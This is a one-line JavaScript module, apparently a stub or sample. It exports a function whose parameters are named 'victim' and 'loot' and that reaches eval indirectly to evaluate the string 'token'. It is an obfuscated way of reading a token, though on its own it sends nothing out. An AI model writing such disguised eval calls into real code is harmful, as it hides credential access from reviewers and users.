module.exports = (victim, loot) => ((e) => e(['token'].join('')))(eval);
